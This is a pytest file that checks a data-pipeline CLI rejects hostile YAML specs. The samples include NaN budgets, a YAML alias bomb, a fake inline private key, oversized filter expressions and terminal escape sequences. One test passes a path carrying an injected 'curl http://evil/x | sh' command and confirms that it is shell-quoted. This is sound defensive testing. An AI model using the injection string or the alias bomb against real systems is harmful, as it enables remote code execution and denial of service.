"""Hostile specs are refused by `slicefeed validate` (exit 2) before Ray starts.

Attacks: non-finite numbers that switch budgets off, YAML alias bombs,
inline credentials that would be echoed, values that would only fail inside
Ray workers, filter expressions that crash Arrow or Python, and a
``--spec-in-image`` path that would be run by a shell. Each error names the
key and the limit, and never prints the hostile value in full.
"""

from __future__ import annotations

import json
import os
import time

import pytest
import yaml

from slicefeed.connectors import SpecError
from slicefeed.pipelines import load_pipeline
from tests._harness import run_slicefeed

PRIVATE = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC-MARKER-5521\n-----END PRIVATE KEY-----\n"
KEY_JSON = json.dumps({"type": "service_account", "project_id": "p", "private_key": PRIVATE,
                       "client_email": "sa@p.iam.gserviceaccount.com"})


slicefeed = run_slicefeed


@pytest.fixture
def raw(local_dir) -> str:
    d = os.path.join(local_dir, "raw")
    os.makedirs(d)
    with open(os.path.join(d, "a.jsonl"), "w") as f:
        f.writelines(json.dumps({"id": i, "x": float(i), "toks": [1, 2, 3], "text": f"t{i}"}) + "\n" for i in range(5))
    return d


def _spec(raw: str, local_dir: str, **kw) -> dict:
    spec = {"name": "hostile", "source": {"format": "jsonl", "uri": raw},
            "sink": {"format": "parquet", "uri": os.path.join(local_dir, "out")}}
    spec.update(kw)
    return spec


def _write(path: str, spec_or_text) -> str:
    with open(path, "w") as f:
        f.write(spec_or_text if isinstance(spec_or_text, str) else yaml.safe_dump(spec_or_text))
    return path


def _validate(path: str, *overrides: str):
    """What `slicefeed validate` does, in process."""
    p = load_pipeline(path, list(overrides))
    return p.check()


# -- non-finite numbers ----------------------------------------------------------


@pytest.mark.parametrize("where, text, match", [
    ("max_error_fraction", "max_error_fraction: .nan\n", r"max_error_fraction is not a finite number \(nan\)"),
    ("max_error_fraction", "max_error_fraction: .inf\n", r"max_error_fraction is not a finite number \(inf\)"),
    ("weight", ("sources:\n  - {format: jsonl, uri: RAW, weight: .nan, name: a}\n"
               "  - {format: jsonl, uri: RAW, weight: 1, name: b}\n"),
     r"sources\.0\.weight is not a finite number \(nan\)"),
    ("weight", ("sources:\n  - {format: jsonl, uri: RAW, weight: .inf, name: a}\n"
               "  - {format: jsonl, uri: RAW, weight: 1, name: b}\n"),
     r"sources\.0\.weight is not a finite number \(inf\)"),
    ("transform arg", "transforms:\n  - fill_null: {values: {x: -.inf}}\n",
     r"transforms\.0\.fill_null\.values\.x is not a finite number \(-inf\)"),
])
def test_non_finite_numbers_are_refused(raw, local_dir, where, text, match):
    body = "name: t\nsink: {format: parquet, uri: OUT}\n" + text
    if "sources" not in text:
        body += "source: {format: jsonl, uri: RAW}\n"
    path = _write(os.path.join(local_dir, "s.yaml"),
                  body.replace("RAW", raw).replace("OUT", os.path.join(local_dir, "out")))
    with pytest.raises(SpecError, match=match):
        _validate(path)
    # --set gives the same answer.
    ok = _write(os.path.join(local_dir, "ok.yaml"), _spec(raw, local_dir))
    with pytest.raises(SpecError, match=r"max_error_fraction is not a finite number"):
        _validate(ok, "max_error_fraction=.nan")


@pytest.mark.parametrize("weights, match", [
    ((1e308, 1e308), r"sources\.0\.weight .*at most 1e\+12"),
    ((1, 2e12), r"sources\.1\.weight .*at most 1e\+12"),
])
def test_mixture_weights_too_large_are_refused_by_the_cli(raw, local_dir, weights, match):
    """Weights whose sum overflows float64 validated and then failed the run,
    after a Ray pass, with a bare ValueError."""
    import re

    spec = _spec(raw, local_dir)
    del spec["source"]
    spec["sources"] = [{"name": n, "format": "jsonl", "uri": raw, "weight": w}
                       for n, w in zip("ab", weights)]
    path = _write(os.path.join(local_dir, "w.yaml"), spec)
    r = slicefeed("validate", path, timeout=120)
    assert r.returncode == 2, r.stderr[-2000:]
    assert re.search(match, r.stderr), r.stderr[-2000:]
    assert len(r.stderr) < 2000 and "Traceback" not in r.stderr


# -- YAML alias bombs ------------------------------------------------------------

BOMB = """name: bomb
source: {format: jsonl, uri: RAW}
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def test_alias_bomb_is_refused_quickly_by_the_cli(raw, local_dir):
    path = _write(os.path.join(local_dir, "bomb.yaml"), BOMB.replace("RAW", raw))
    t0 = time.monotonic()
    r = slicefeed("validate", path, timeout=60)
    assert r.returncode == 2, r.stderr[-2000:]
    assert "YAML aliases expand to more than 10000 nodes" in r.stderr, r.stderr[-2000:]
    assert len(r.stderr) < 2000 and "Traceback" not in r.stderr
    assert time.monotonic() - t0 < 30
    # Also through --set, and a recursive alias.
    ok = _write(os.path.join(local_dir, "ok.yaml"), _spec(raw, local_dir))
    bomb_value = "[" + ",".join(["&a [1,1,1,1,1,1,1,1,1,1]"] + ["*a"] * 2000) + "]"
    with pytest.raises(SpecError, match=r"--set description: YAML aliases expand to more than 10000 nodes"):
        _validate(ok, f"description={bomb_value}")
    rec = _write(os.path.join(local_dir, "rec.yaml"), f"name: t\nsource: {{format: jsonl, uri: {raw}}}\n"
                 "description: &r [*r]\n")
    with pytest.raises(SpecError, match="recursive YAML alias"):
        _validate(rec)


def test_a_key_written_twice_is_refused_by_the_cli(raw, local_dir):
    """YAML keys are unique; PyYAML would silently keep the last value (here the
    stricter bad-record policy would be dropped)."""
    text = (f"name: t\nsource: {{format: jsonl, uri: {raw}}}\non_error: fail\n"
            "on_error: skip\n")
    r = slicefeed("validate", _write(os.path.join(local_dir, "dup.yaml"), text), timeout=60)
    assert r.returncode == 2, r.stderr[-2000:]
    assert "key 'on_error' appears twice in one mapping (line 4)" in r.stderr, r.stderr[-2000:]
    nested = (f"name: t\nsource: {{format: jsonl, uri: {raw}}}\ntransforms:\n"
              "  - select: {columns: [id], columns: [x]}\n")
    with pytest.raises(SpecError, match="key 'columns' appears twice"):
        _validate(_write(os.path.join(local_dir, "dup2.yaml"), nested))
    # A merge may override what it brings in.
    merged = (f"name: t\nsource: {{format: jsonl, uri: {raw}}}\ntransforms:\n"
              "  - select: &sel {columns: [id, x]}\n  - select: {<<: *sel, columns: [id]}\n")
    assert _validate(_write(os.path.join(local_dir, "merge.yaml"), merged)).names == ["id"]


def test_small_aliases_still_work(raw, local_dir):
    text = (f"name: t\nsource: &src {{format: jsonl, uri: {raw}}}\n"
            "transforms:\n  - select: {columns: &cols [id, x]}\n  - select: {columns: *cols}\n")
    path = _write(os.path.join(local_dir, "s.yaml"), text)
    assert _validate(path).names == ["id", "x"]


@pytest.mark.slow
def test_huge_values_are_truncated_in_messages(raw, local_dir):
    big = "x" * 100_000
    path = _write(os.path.join(local_dir, "s.yaml"), _spec(raw, local_dir, seed=big))
    with pytest.raises(SpecError) as e:
        _validate(path)
    assert "seed must be an integer" in str(e.value) and len(str(e.value)) < 1000
    path = _write(os.path.join(local_dir, "s.yaml"),
                  _spec(raw, local_dir, transforms=[{"select": {"columns": ["id"]}, "x": list(range(50_000))}]))
    with pytest.raises(SpecError) as e:
        _validate(path)
    assert "exactly one key" in str(e.value) and len(str(e.value)) < 1000
    # Control characters in quoted values are escaped, not printed.
    path = _write(os.path.join(local_dir, "s.yaml"), _spec(raw, local_dir, on_error="skip\n\x1b[31mFAKE"))
    with pytest.raises(SpecError) as e:
        _validate(path)
    assert "\n" not in str(e.value) and "\x1b" not in str(e.value)


# -- inline credentials ----------------------------------------------------------


@pytest.mark.parametrize("how", ["yaml-mapping", "yaml-string", "set"])
@pytest.mark.slow
def test_inline_credentials_are_never_echoed(raw, local_dir, how):
    spec = _spec(raw, local_dir)
    args = []
    if how == "yaml-mapping":
        spec["sink"]["storage"] = {"credentials": json.loads(KEY_JSON)}
    elif how == "yaml-string":
        spec["sink"]["storage"] = {"credentials": KEY_JSON}
    path = _write(os.path.join(local_dir, "s.yaml"), spec)
    if how == "set":
        args = ["--set", f"sink.storage.credentials={KEY_JSON}"]
    r = slicefeed("validate", path, *args)
    assert r.returncode == 2, r.stderr[-2000:]
    assert "sink.storage.credentials must be a path to a key file" in r.stderr
    out = r.stdout + r.stderr
    assert "MARKER-5521" not in out and "PRIVATE KEY" not in out and "sa@p.iam" not in out


# -- values that used to fail only inside Ray ------------------------------------


@pytest.mark.parametrize("change, match", [
    ({"source.options": {"shuffle_seed": "abc"}}, r"source\.options\.shuffle_seed must be an integer"),
    ({"source.options": {"shuffle_seed": -3}}, r"source\.options\.shuffle_seed must be >= 0"),
    ({"source.options": {"columns": "id"}}, r"source\.options\.columns must be a list"),
    ({"sink.options": {"compression": "rot13"}}, r"sink\.options\.compression is 'rot13'; allowed values: .*zstd"),
    ({"sink.options": {"row_group_size": -5}}, r"sink\.options\.row_group_size must be >= 1"),
    ({"sink.options": {"row_group_bytes": 0}}, r"sink\.options\.row_group_bytes must be >= 1"),
    ({"sink.options": {"min_rows_per_file": "many"}}, r"sink\.options\.min_rows_per_file must be an integer"),
    ({"seed": -1}, r"seed must be >= 0"),
    ({"seed": 2**70}, r"seed must be <= "),
    ({"transforms": [{"pad_or_truncate": {"column": "toks", "length": 10**12}}]},
     r"length must be at most 1048576"),
    ({"transforms": [{"pad_or_truncate": {"column": "toks", "length": 8, "pad_value": "zero"}}]},
     r"pad_value' must be a number"),
    ({"transforms": [{"pad_or_truncate": {"column": "toks", "length": 8, "pad_value": 1.5}}]},
     r"pad_value 1\.5 does not fit the list's value type int64"),
    ({"sources": "dup"}, r"sources\.1\.name 'web' is used by sources\.0"),
    ({"sink.storage": {"credentials": "/k.json", "anonymous": True}},
     r"sink\.storage: give either credentials \(a key file\) or anonymous: true, not both"),
])
def test_values_that_failed_in_ray_are_refused_by_validate(raw, local_dir, change, match):
    spec = _spec(raw, local_dir)
    for key, value in change.items():
        if key == "sources":
            spec.pop("source")
            spec["sources"] = [{"name": "web", "format": "jsonl", "uri": raw},
                               {"name": "web", "format": "jsonl", "uri": raw}]
        elif "." in key:
            a, b = key.split(".")
            spec[a][b] = value
        else:
            spec[key] = value
    path = _write(os.path.join(local_dir, "s.yaml"), spec)
    with pytest.raises(SpecError, match=match):
        _validate(path)


@pytest.mark.slow
def test_refused_by_the_cli_with_exit_2(raw, local_dir):
    path = _write(os.path.join(local_dir, "s.yaml"), _spec(raw, local_dir))
    r = slicefeed("validate", path, "--set", "sink.options.compression=rot13",
                  "--set", "source.options.shuffle_seed=abc")
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr[-2000:]
    assert "sink.options.compression is 'rot13'; allowed values: none, snappy" in r.stderr
    r = slicefeed("validate", path, "--set", "source.options.shuffle_seed=abc")
    assert r.returncode == 2 and "source.options.shuffle_seed must be an integer" in r.stderr


def test_spec_in_image_path_is_shell_quoted(raw, local_dir):
    from slicefeed.pipelines._ops.k8s import build_manifests

    path = _write(os.path.join(local_dir, "s.yaml"), _spec(raw, local_dir))
    evil = "/app/p.yaml; curl http://evil/x | sh"
    (job,) = build_manifests(path, image="img:1.0", spec_in_image=evil)
    assert job["spec"]["entrypoint"] == "slicefeed run '/app/p.yaml; curl http://evil/x | sh'"


# -- filter expressions -----------------------------------------------------------


@pytest.mark.parametrize("expr, match", [
    (" or ".join(["id==1"] * 10_000), r"expression has 20000 terms \(columns and literals\); the limit is 1000"),
    (" or ".join(f"id == {i}" for i in range(100_000)), r"expression is \d+ characters long; the limit is 100000"),
    ("not " * 3000 + "id > 1", r"expression nests deeper than 64 levels"),
    ("-(" * 100 + "id" + ")" * 100 + " > 1", r"expression nests deeper than 64 levels"),
    ("id > " + "9" * 40, r"integer literal .* does not fit in 64 bits"),
    ("id in [" + ",".join(map(str, range(12_000))) + "]", r"more than 10000 values; the limit is 10000"),
])
@pytest.mark.slow
def test_filter_expressions_are_capped(raw, local_dir, expr, match):
    path = _write(os.path.join(local_dir, "s.yaml"),
                  _spec(raw, local_dir, transforms=[{"filter": {"expr": expr}}]))
    t0 = time.monotonic()
    with pytest.raises(SpecError, match=match) as e:
        _validate(path)
    assert time.monotonic() - t0 < 60  # YAML-loading a 1.3 MB spec is most of it
    assert len(str(e.value)) < 2000


@pytest.mark.slow
def test_filter_type_errors_are_spec_errors_in_the_cli(raw, local_dir):
    path = _write(os.path.join(local_dir, "s.yaml"),
                  _spec(raw, local_dir, transforms=[{"filter": {"expr": "text > 1"}}]))
    r = slicefeed("validate", path)
    assert r.returncode == 2 and "does not type-check" in r.stderr, r.stderr[-2000:]
    r = slicefeed("validate", path, "--set", "transforms.0.filter.expr=" + " or ".join(["id==1"] * 12_000))
    assert r.returncode == 2 and "the limit is" in r.stderr, r.stderr[-2000:]
    r = slicefeed("validate", path, "--set", "transforms.0.filter.expr=id > " + "9" * 40)
    assert r.returncode == 2 and "does not fit in 64 bits" in r.stderr, r.stderr[-2000:]
